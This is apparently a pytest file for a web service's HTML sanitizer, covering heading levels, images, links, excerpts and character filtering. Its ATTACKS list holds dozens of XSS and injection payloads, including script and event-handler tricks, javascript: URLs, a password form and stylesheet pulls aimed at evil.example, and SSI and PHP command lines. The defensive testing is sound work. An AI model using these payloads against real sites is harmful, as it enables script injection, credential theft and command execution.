@@ -1,0 +1,250 @@
+"""Bodies become HTML that is safe, whole and fit to stand below an h1."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from services.render.markup import absolute_urls, body_html, excerpt, printable, scrollable_tables, text_of
+from shared.items import BodyFormat
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script\x00>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=x></script>",
+    "<<script>alert(1);//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x:x onerror=alert(1)//",
+    "<img src=javascript:alert(1)>",
+    '<img src="jav&#x09;ascript:alert(1)">',
+    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
+    "<img src=http://tracker.example/pixel.gif>",
+    "<img src=//tracker.example/pixel.gif>",
+    "<img src='/\\tracker.example/pixel.gif'>",
+    "<img src='\\\\tracker.example/pixel.gif'>",
+    "<img src='/a.png' srcset='//evil.example/x 2x'>",
+    "<img src='/a.png' style='position:fixed'>",
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=JaVaScRiPt:alert(1)>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=' \x01javascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href=vbscript:msgbox(1)>x</a>",
+    "<a href=file:///etc/passwd>x</a>",
+    "<a onmouseover=alert(1)>x</a>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=password><button>ok</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--#include virtual='/etc/passwd' -->",
+    "<!--#exec cmd='id' -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php system('id'); ?>",
+    "<p id=content class=masthead name=x>x</p>",
+    "</main></article><h1>x</h1>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+]
+
+ALLOWED_TAGS = {
+    *("p", "div", "blockquote", "pre", "hr", "figure", "figcaption", "details", "summary", "br", "wbr", "span", "a"),
+    *("h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "img", "time", "code", "kbd", "samp", "var"),
+    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "bdi", "bdo", "ruby", "rt"),
+    "rp",
+    *(
+        "b",
+        "strong",
+        "i",
+        "em",
+        "u",
+        "s",
+        "del",
+        "ins",
+        "small",
+        "sub",
+        "sup",
+        "mark",
+        "abbr",
+        "cite",
+        "q",
+        "dfn",
+        "rp",
+    ),
+}
+ALLOWED_ATTRIBUTES = {
+    *("lang", "dir", "href", "rel", "src", "alt", "width", "height", "loading", "title", "datetime"),
+    *("start", "reversed", "scope", "colspan", "rowspan"),
+}
+
+
+class _Tags(HTMLParser):
+    """What a browser would make elements of."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str]]] = []
+        self.comments: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_comment(self, data: str) -> None:
+        self.comments.append(data)
+
+    def handle_pi(self, data: str) -> None:
+        self.comments.append(data)
+
+
+@pytest.mark.parametrize("body_format", ["text", "markdown", "html"])
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_in_a_body_runs_or_reaches_out(attack: str, body_format: BodyFormat) -> None:
+    safe = body_html(attack, body_format)
+
+    tags = _Tags(safe)
+    assert tags.comments == []
+    for tag, attributes in tags.found:
+        assert tag in ALLOWED_TAGS
+        assert attributes.keys() <= ALLOWED_ATTRIBUTES
+        link, source = attributes.get("href", "/"), attributes.get("src", "/")
+        assert link.startswith(("/", "https:", "http:", "mailto:")) or ":" not in link
+        assert source.startswith("https:") or (":" not in source and not source.startswith(("//", "/\\")))
+    assert body_html(safe, "html") == safe
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        pytest.param("One\n\nTwo", "<p>One</p>\n<p>Two</p>", id="a blank line begins a paragraph"),
+        pytest.param("One\n \t\n\n\nTwo", "<p>One</p>\n<p>Two</p>", id="several blank lines are one"),
+        pytest.param("One\r\n\r\nTwo", "<p>One</p>\n<p>Two</p>", id="as Windows writes lines"),
+        pytest.param("One  \nTwo", "<p>One<br>\nTwo</p>", id="a newline is a line break"),
+        pytest.param("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>", id="marks are text"),
+        pytest.param("\n\nOne\n\n", "<p>One</p>", id="blank ends are nothing"),
+        pytest.param("", "", id="empty"),
+    ],
+)
+def test_text_becomes_paragraphs(body: str, expected: str) -> None:
+    assert body_html(body, "text") == expected
+
+
+def test_markdown_has_tables_links_and_strikethrough_but_no_html() -> None:
+    html = body_html("| a |\n|---|\n| **b** |\n\n~~old~~ [new](https://e.org/) <b>raw</b>", "markdown")
+
+    assert "<td><strong>b</strong></td>" in html
+    assert '<s>old</s> <a href="https://e.org/" rel="noopener">new</a> &lt;b&gt;raw&lt;/b&gt;' in html
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        pytest.param("<h1>A</h1><h2>B</h2>", "<h2>A</h2><h3>B</h3>", id="h1 becomes h2"),
+        pytest.param("<h3>A</h3><h4>B</h4>", "<h2>A</h2><h3>B</h3>", id="the topmost becomes h2"),
+        pytest.param("<h2>A</h2><h5>B</h5>", "<h2>A</h2><h3>B</h3>", id="no level is skipped"),
+        pytest.param("<h2> <br></h2><p>A</p>", "<p>A</p>", id="an empty heading goes"),
+        pytest.param(
+            "".join(f"<h{n}>x</h{n}>" for n in range(1, 7)),
+            "<h2>x</h2><h3>x</h3><h4>x</h4><h5>x</h5><h6>x</h6><h6>x</h6>",
+            id="six levels share five",
+        ),
+    ],
+)
+def test_headings_stand_below_the_page_title(body: str, expected: str) -> None:
+    assert body_html(body, "html") == expected
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        pytest.param('<img src="/a.png">', '<img alt="" src="/a.png" loading="lazy">', id="none is decoration"),
+        pytest.param('<img src="/a.png" alt="A">', '<img src="/a.png" alt="A" loading="lazy">', id="alt is kept"),
+        pytest.param('<img alt="A">', "", id="one without source goes"),
+        pytest.param('<img src="/a" width="9em">', '<img alt="" src="/a" loading="lazy">', id="sizes are numbers"),
+    ],
+)
+def test_images_are_whole(body: str, expected: str) -> None:
+    assert body_html(body, "html") == expected
+
+
+def test_links_and_images_become_absolute_for_feeds() -> None:
+    html = body_html('<a href="/x/">a</a><a href="y#z">b</a><img src="../i.png"><a href="mailto:a@e.org">c</a>', "html")
+
+    absolute = absolute_urls(html, "https://e.org/en/news/item/")
+
+    assert 'href="https://e.org/x/"' in absolute
+    assert 'href="https://e.org/en/news/item/y#z"' in absolute
+    assert 'src="https://e.org/en/news/i.png"' in absolute
+    assert 'href="mailto:a@e.org"' in absolute
+
+
+def test_a_wide_table_scrolls_by_itself() -> None:
+    html = scrollable_tables(body_html("<table><tr><td>1</td></tr></table>", "html"))
+
+    assert html.startswith('<div class="table" tabindex="0"><table>')
+    assert html.endswith("</table></div>")
+
+
+def test_text_has_a_line_for_each_block() -> None:
+    markup = (
+        "<h2>A &amp; B</h2><p>one<br>two</p><ul><li>x</li><li>y</li></ul><table><tr><td>1</td><td>2</td></tr></table>"
+    )
+
+    assert text_of(markup) == "A & B\none\ntwo\nx\ny\n1 2"
+
+
+@pytest.mark.parametrize(
+    ("text", "limit", "expected"),
+    [
+        pytest.param("short", 10, "short", id="short stays"),
+        pytest.param("exactly ten", 11, "exactly ten", id="just fits"),
+        pytest.param("exactly eleven", 11, "exactly…", id="cut at a word"),
+        pytest.param("one two, three", 10, "one two…", id="no comma before the ellipsis"),
+        pytest.param("already cut...", 20, "already cut...", id="an ellipsis of its own is kept"),
+        pytest.param("already… cut here", 12, "already…", id="no second ellipsis"),
+        pytest.param("Руководствуясь пунктом статьи", 24, "Руководствуясь пунктом…", id="Cyrillic"),
+        pytest.param("وبحثت الرئيسة، مع السفيرة", 16, "وبحثت الرئيسة…", id="Arabic"),
+        pytest.param("国务院办公厅关于公布通知", 7, "国务院办公厅…", id="no spaces"),
+        pytest.param("กกกกก้กกก", 6, "กกกก…", id="a mark stays with its letter"),
+        pytest.param("xx👩‍👩‍👧yyyy", 5, "xx…", id="a joined emoji stays whole"),
+        pytest.param("one\n\n two", 20, "one\ntwo", id="lines are kept, blank ones not"),
+        pytest.param("one\xa0two three", 11, "one\xa0two…", id="no-break space is kept"),
+    ],
+)
+def test_an_excerpt_is_cut_at_a_word(text: str, limit: int, expected: str) -> None:
+    assert excerpt(text, limit) == expected
+    assert len(excerpt(text, limit)) <= max(limit, len(expected))
+
+
+def test_characters_that_neither_xml_nor_html_allows_are_dropped() -> None:
+    assert printable("a\x00b\x08c\x0bd\x1fe\x7ff\ud800g\ufffeh\ti\nj🎺") == "abcdefgh\ti\nj🎺"
